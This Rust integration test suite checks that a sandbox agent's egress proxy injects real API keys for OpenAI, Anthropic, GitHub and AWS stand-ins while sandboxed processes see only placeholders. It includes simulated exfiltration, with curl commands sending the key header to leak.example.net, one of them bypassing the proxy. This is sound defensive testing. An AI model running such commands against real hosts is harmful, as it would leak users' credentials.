//! Sealed secrets end to end: the real agent and its egress proxy, real clients from PyPI and
//! Debian run as the sandbox user through `maestro-exec`, and HTTPS stand-ins on loopback with a
//! test CA of their own (tests/support/sealed/), which the agent reaches through its test-only
//! upstream override. Shows:
//!
//! * the openai and anthropic SDKs, `gh api user`, curl and `git clone` reach the stand-in, which
//!   receives the real value, while the client's environment held only the placeholder;
//! * the AWS CLI and boto3 against moto with signature checks on (`sts get-caller-identity`, an
//!   S3 put and get of 10 MiB) succeed because the proxy re-signs with the real keys;
//! * the real values are in no file under the mount, in no `/proc/<pid>/environ` or `cmdline`,
//!   and in the readable memory of no process of the sandbox user;
//! * a placeholder sent to a host it does not belong to is refused, never reaches it, and is in
//!   the audit trail; an echoing server's answer shows the client only the placeholder;
//! * after deactivation the next request carries no real value.
// Test code: a failed expectation is a failed test, reported with its message.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod integrations_support;

use std::path::PathBuf;
use std::process::Command;
use std::time::Duration;

use integrations_support::{World, clients_available, support, venv_python};
use maestro_tests::agent::{AgentOptions, SANDBOX_UID, run_cmd, wait_until};
use maestro_tests::broker::CmdOutput;
use maestro_tests::util::{ChildGuard, files_under, process_holds, temp_dir, uid_pids};
use serde_json::{Value, json};

const OPENAI: &str = "sk-proj-REALopenaiREALopenai0123456789abcdefABCDEF";
const ANTHROPIC: &str = "sk-ant-api03-REALanthropicREALanthropic0123456789abcdef";
const GITHUB: &str = "ghp_REALgithubREALgithub0123456789abcd";

/// The stand-ins, their CA and the directories they use; stopped when dropped.
struct StandIns {
    dir: tempfile::TempDir,
    port: u16,
    moto_port: u16,
    log: PathBuf,
    moto_keys: Value,
    _standin: ChildGuard,
    _moto: ChildGuard,
}

fn started(guard: &ChildGuard, what: &str) -> u16 {
    let line = guard
        .wait_for_stdout(Duration::from_secs(60), |l| l.starts_with("listening on "))
        .unwrap_or_else(|| panic!("{what} did not start:\n{}", guard.log()));
    line.trim_start_matches("listening on ").trim().parse().unwrap()
}

impl StandIns {
    fn start() -> StandIns {
        let dir = temp_dir("maestro-sealed-");
        let certs = dir.path().join("certs");
        let out = run_cmd({
            let mut c = Command::new("bash");
            c.arg(support("sealed/certs.sh")).arg(&certs);
            c
        });
        assert_eq!(out.status, 0, "certs.sh: {out:?}");
        // A bare repository with one commit, for git clone.
        let git_root = dir.path().join("git");
        let work = dir.path().join("work");
        std::fs::create_dir_all(git_root.join("maestro")).unwrap();
        for args in [
            vec![
                "init",
                "-q",
                "--initial-branch=main",
                "--bare",
                git_root.join("maestro/demo.git").to_str().unwrap(),
            ],
            vec!["init", "-q", work.to_str().unwrap()],
        ] {
            run_cmd({
                let mut c = Command::new("git");
                c.args(&args);
                c
            })
            .ok();
        }
        std::fs::write(work.join("README"), "sealed demo\n").unwrap();
        for args in [
            vec!["add", "README"],
            vec!["-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "one"],
            vec![
                "push",
                "-q",
                git_root.join("maestro/demo.git").to_str().unwrap(),
                "HEAD:refs/heads/main",
            ],
        ] {
            run_cmd({
                let mut c = Command::new("git");
                c.current_dir(&work).args(&args);
                c
            })
            .ok();
        }
        let log = dir.path().join("standin.log");
        let mut cmd = Command::new(venv_python());
        cmd.arg(support("sealed/standin.py"))
            .arg("--cert")
            .arg(certs.join("server.pem"))
            .arg("--key")
            .arg(certs.join("server.key"))
            .args(["--port", "0", "--log"])
            .arg(&log)
            .arg("--git-root")
            .arg(&git_root);
        let standin = ChildGuard::spawn("standin", cmd);
        let port = started(&standin, "the HTTPS stand-in");
        let keys = dir.path().join("moto-keys.json");
        let mut cmd = Command::new(venv_python());
        cmd.arg(support("sealed/moto_tls.py"))
            .arg("--cert")
            .arg(certs.join("server.pem"))
            .arg("--key")
            .arg(certs.join("server.key"))
            .args(["--port", "0", "--keys-out"])
            .arg(&keys);
        let moto = ChildGuard::spawn("moto", cmd);
        let moto_port = started(&moto, "moto");
        let moto_keys: Value =
            serde_json::from_str(&std::fs::read_to_string(&keys).unwrap()).unwrap();
        StandIns { dir, port, moto_port, log, moto_keys, _standin: standin, _moto: moto }
    }

    fn ca(&self) -> PathBuf {
        self.dir.path().join("certs").join("ca.pem")
    }

    /// The agent's arguments that send the real hosts here and trust the test CA upstream.
    fn agent_options(&self) -> AgentOptions {
        let mut extra = Vec::new();
        for host in [
            "api.openai.com",
            "api.anthropic.com",
            "api.github.com",
            "github.com",
            "leak.example.net",
        ] {
            extra.push("--test-only-upstream".to_owned());
            extra.push(format!("{host}=127.0.0.1:{}", self.port));
        }
        extra.push("--test-only-upstream".to_owned());
        extra.push(format!("*.amazonaws.com=127.0.0.1:{}", self.moto_port));
        extra.push("--test-only-upstream-ca".to_owned());
        extra.push(self.ca().to_string_lossy().into_owned());
        AgentOptions { extra_args: extra, ..AgentOptions::default() }
    }

    /// Every request the stand-in logged.
    fn requests(&self) -> Vec<Value> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    }

    /// The Authorization headers (Basic decoded) the stand-in received for a path prefix.
    fn authorizations(&self, path_prefix: &str) -> Vec<String> {
        self.requests()
            .iter()
            .filter(|r| r["path"].as_str().unwrap_or("").starts_with(path_prefix))
            .flat_map(|r| {
                r["headers"]
                    .as_array()
                    .cloned()
                    .unwrap_or_default()
                    .into_iter()
                    .filter(|h| h[0].as_str().unwrap_or("").eq_ignore_ascii_case("authorization"))
                    .map(|h| decode_basic(h[1].as_str().unwrap_or("")))
                    .collect::<Vec<_>>()
            })
            .collect()
    }
}

fn decode_basic(value: &str) -> String {
    use base64::Engine as _;
    match value.strip_prefix("Basic ") {
        Some(b) => base64::engine::general_purpose::STANDARD
            .decode(b.trim())
            .map(|d| format!("Basic {}", String::from_utf8_lossy(&d)))
            .unwrap_or_else(|_| value.to_owned()),
        None => value.to_owned(),
    }
}

async fn sealed(world: &World, name: &str, kind: &str, fields: Value) {
    world
        .sb
        .api
        .post(
            "/v1/secrets",
            json!({"name": name, "kind": kind, "fields": fields, "exposure": "sealed"}),
        )
        .await
        .ok();
}

/// `maestro-exec -- ARGS` as the sandbox user, with HOME and gh's quiet settings.
fn exec(world: &World, args: &[&str]) -> CmdOutput {
    let mut cmd = world.exec(&["--"]);
    cmd.args(args)
        .env("GH_NO_UPDATE_NOTIFIER", "1")
        .env("GH_PROMPT_DISABLED", "1")
        .env("GH_CONFIG_DIR", world.home.join(".gh"))
        .env("GIT_TERMINAL_PROMPT", "0")
        .env("GIT_CONFIG_NOSYSTEM", "1");
    run_cmd(cmd)
}

fn var(world: &World, name: &str) -> String {
    let out = exec(world, &["printenv", name]);
    assert_eq!(out.status, 0, "{name}: {out:?}");
    out.stdout.trim().to_owned()
}

fn available() -> bool {
    clients_available(&[
        venv_python().as_os_str(),
        "gh".as_ref(),
        "curl".as_ref(),
        "git".as_ref(),
        "openssl".as_ref(),
    ])
}

const PY_CLIENTS: &str = r#"
import os, sys, time, anthropic, openai
m = openai.OpenAI().models.list()
print("openai", m.data[0].id)
r = anthropic.Anthropic().messages.create(model="claude-x", max_tokens=5,
    messages=[{"role": "user", "content": "hi"}])
print("anthropic", r.content[0].text)
print("key", os.environ["OPENAI_API_KEY"])
sys.stdout.flush()
# Stay alive, holding both clients, while the test scans this process's memory.
open(sys.argv[1], "w").write("ready")
time.sleep(60)
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn clients_reach_the_stand_ins_with_real_values_while_the_sandbox_holds_placeholders() {
    if !available() {
        return;
    }
    let standins = StandIns::start();
    let world = World::with_agent("sealed", standins.agent_options());
    sealed(&world, "OPENAI", "openai", json!({"api_key": OPENAI})).await;
    sealed(&world, "ANTHROPIC", "anthropic", json!({"api_key": ANTHROPIC})).await;
    sealed(&world, "GH", "github", json!({"token": GITHUB})).await;
    world.activate(&["OPENAI", "ANTHROPIC", "GH"], &["OPENAI", "ANTHROPIC", "GH"]).await;
    let reals = [OPENAI, ANTHROPIC, GITHUB];

    // The sandbox's variables are placeholders of the same shape.
    let openai_p = var(&world, "OPENAI_API_KEY");
    let gh_p = var(&world, "GH_TOKEN");
    assert!(
        openai_p.starts_with("sk-proj-") && openai_p.len() == OPENAI.len() && openai_p != OPENAI
    );
    assert!(gh_p.starts_with("ghp_") && gh_p != GITHUB);
    assert!(var(&world, "HTTPS_PROXY").starts_with("http://127.0.0.1:"));

    // The openai and anthropic SDKs; the process then stays alive for the memory scan.
    let ready = world.home.join("py-ready");
    let mut py = world.exec(&["--"]);
    py.arg(venv_python()).args(["-c", PY_CLIENTS]).arg(&ready);
    let py = ChildGuard::spawn("python clients", py);
    let got = py.wait_for_stdout(Duration::from_secs(120), |l| l.starts_with("key "));
    assert!(got.is_some(), "the SDKs failed:\n{}", py.log());
    let log = py.log();
    assert!(log.contains("openai gpt-"), "{log}");
    assert!(log.contains("anthropic "), "{log}");
    assert!(log.contains(&openai_p) && !log.contains(OPENAI), "{log}");
    let auths = standins.authorizations("/v1/models");
    assert!(auths.iter().any(|a| a == &format!("Bearer {OPENAI}")), "{auths:?}");
    let auths = standins.authorizations("/v1/messages");
    let requests = standins.requests();
    let anthropic_got = requests.iter().any(|r| {
        r["path"] == "/v1/messages"
            && r["headers"].as_array().unwrap().iter().any(|h| {
                h[1].as_str() == Some(ANTHROPIC)
                    || h[1].as_str() == Some(&format!("Bearer {ANTHROPIC}"))
            })
    });
    assert!(anthropic_got, "{auths:?}");

    // gh and curl.
    let out = exec(&world, &["gh", "api", "user"]);
    assert_eq!(out.status, 0, "gh api user: {out:?}");
    assert!(standins.authorizations("/user").contains(&format!("token {GITHUB}")));
    let out = exec(
        &world,
        &[
            "sh",
            "-c",
            "curl -sS --fail https://api.openai.com/v1/models -H \"Authorization: Bearer $OPENAI_API_KEY\"",
        ],
    );
    assert_eq!(out.status, 0, "curl: {out:?}");

    // git clone over HTTPS, the token from the credential helper (a placeholder too).
    let clone = world.home.join("demo");
    let out = exec(
        &world,
        &[
            "git",
            "-c",
            "credential.helper=!maestro-exec git-credential",
            "clone",
            "-q",
            "https://github.com/maestro/demo.git",
            clone.to_str().unwrap(),
        ],
    );
    assert_eq!(out.status, 0, "git clone: {out:?}");
    assert_eq!(std::fs::read_to_string(clone.join("README")).unwrap(), "sealed demo\n");
    let git_auth = standins.authorizations("/maestro/demo.git");
    assert!(git_auth.iter().any(|a| a.ends_with(&format!(":{GITHUB}"))), "{git_auth:?}");

    // An echoing server: the client sees the placeholder, never the value.
    let out = exec(
        &world,
        &[
            "sh",
            "-c",
            "curl -sS -i https://api.openai.com/echo -H \"Authorization: Bearer $OPENAI_API_KEY\"",
        ],
    );
    assert_eq!(out.status, 0, "{out:?}");
    assert!(out.stdout.contains(&openai_p) && !out.stdout.contains(OPENAI), "{out:?}");

    // A placeholder towards another host: refused, never sent, recorded.
    let before = standins.requests().len();
    let out = exec(
        &world,
        &[
            "sh",
            "-c",
            "curl -sS -o /dev/null -w '%{http_code}' https://leak.example.net/echo -H \"Authorization: Bearer $OPENAI_API_KEY\"",
        ],
    );
    assert_eq!(out.stdout.trim(), "403", "{out:?}");
    let after = standins.requests();
    assert!(
        !after[before..]
            .iter()
            .any(|r| r["host"].as_str().unwrap_or("").contains("leak.example.net")),
        "the leak reached the host: {after:?}"
    );
    // And sent there directly (no proxy), it carries only the placeholder.
    let out = exec(
        &world,
        &[
            "sh",
            "-c",
            &format!(
                "curl -sS --noproxy '*' --cacert {} --resolve leak.example.net:{}:127.0.0.1 https://leak.example.net:{}/echo -H \"Authorization: Bearer $OPENAI_API_KEY\"",
                standins.ca().display(),
                standins.port,
                standins.port
            ),
        ],
    );
    assert!(!out.stdout.contains(OPENAI), "{out:?}");

    // No value in a file under the mount, nor in any process of the sandbox user.
    assert!(
        wait_until(Duration::from_secs(30), || ready.exists()).is_some(),
        "python never got ready"
    );
    for file in files_under(&world.agent.mount) {
        let bytes = std::fs::read(&file).unwrap_or_default();
        for r in reals {
            assert!(
                !bytes.windows(r.len()).any(|w| w == r.as_bytes()),
                "{} holds a value",
                file.display()
            );
        }
    }
    let pids = uid_pids(SANDBOX_UID);
    assert!(!pids.is_empty());
    for pid in &pids {
        for r in reals {
            assert_eq!(process_holds(*pid, r.as_bytes()), None, "process {pid} holds a value");
        }
    }
    // The python process does hold the placeholder (the scan can find what is there).
    let py_pid = py.pid().unwrap();
    let holder = pids.iter().any(|p| process_holds(*p, openai_p.as_bytes()).is_some());
    assert!(holder, "no sandbox process (python is {py_pid}) holds the placeholder");
    drop(py);

    // The audit: substitutions with their commands, and the leak attempt.
    let history = world.sb.maestro(&["secrets", "history", "OPENAI"]).ok().stdout;
    assert!(history.contains("substituted"), "{history}");
    assert!(history.contains("leak_attempt"), "{history}");
    assert!(history.contains("GET api.openai.com/v1/models"), "{history}");
    assert!(history.contains("curl"), "{history}");
    world.assert_no_leak(&reals);
    let agent_log = world.agent.log();
    for r in reals {
        assert!(!agent_log.contains(r));
    }

    // After deactivation the next request carries no value.
    let before = standins.requests().len();
    world.deactivate(&["OPENAI"], &["ANTHROPIC", "GH"]).await;
    let out = exec(
        &world,
        &[
            "sh",
            "-c",
            &format!("curl -sS https://api.openai.com/echo -H 'Authorization: Bearer {openai_p}'"),
        ],
    );
    assert!(!out.stdout.contains(OPENAI), "{out:?}");
    let last = standins.requests();
    assert!(last.len() > before, "the request after deactivation did not arrive");
    let text = serde_json::to_string(&last[before..]).unwrap();
    assert!(!text.contains(OPENAI), "a request after deactivation carried the value: {text}");
}

const PY_S3: &str = r#"
import boto3, os
s3 = boto3.client("s3", region_name="us-east-1")
s3.create_bucket(Bucket="maestro-sealed")
body = os.urandom(10 * 1024 * 1024)
s3.put_object(Bucket="maestro-sealed", Key="big", Body=body)
got = s3.get_object(Bucket="maestro-sealed", Key="big")["Body"].read()
assert got == body, "the object read back differs"
print("s3 ok", len(got))
"#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn aws_cli_and_boto3_are_re_signed_with_the_real_keys_against_moto() {
    if !available() {
        return;
    }
    let standins = StandIns::start();
    let world = World::with_agent("sealed-aws", standins.agent_options());
    let key_id = standins.moto_keys["access_key_id"].as_str().unwrap().to_owned();
    let secret = standins.moto_keys["secret_access_key"].as_str().unwrap().to_owned();
    sealed(
        &world,
        "AWS",
        "aws",
        json!({"access_key_id": key_id, "secret_access_key": secret, "region": "us-east-1"}),
    )
    .await;
    world.activate(&["AWS"], &["AWS"]).await;
    let shown = var(&world, "AWS_ACCESS_KEY_ID");
    assert!(shown.starts_with("AKIA") && shown != key_id, "{shown}");
    let aws = venv_python().parent().unwrap().join("aws");
    let out =
        exec(&world, &[aws.to_str().unwrap(), "sts", "get-caller-identity", "--output", "json"]);
    assert_eq!(out.status, 0, "aws sts get-caller-identity: {out:?}");
    assert!(out.stdout.contains("maestro-sealed"), "{out:?}");
    let out = exec(&world, &[venv_python().to_str().unwrap(), "-c", PY_S3]);
    assert_eq!(out.status, 0, "boto3 S3: {out:?}");
    assert!(out.stdout.contains("s3 ok 10485760"), "{out:?}");
    for file in files_under(&world.agent.mount) {
        let text = std::fs::read(&file).unwrap_or_default();
        assert!(!text.windows(secret.len()).any(|w| w == secret.as_bytes()), "{}", file.display());
        assert!(!text.windows(key_id.len()).any(|w| w == key_id.as_bytes()), "{}", file.display());
    }
    let history = world.sb.maestro(&["secrets", "history", "AWS"]).ok().stdout;
    assert!(history.contains("substituted"), "{history}");
    world.assert_no_leak(&[&secret]);
}
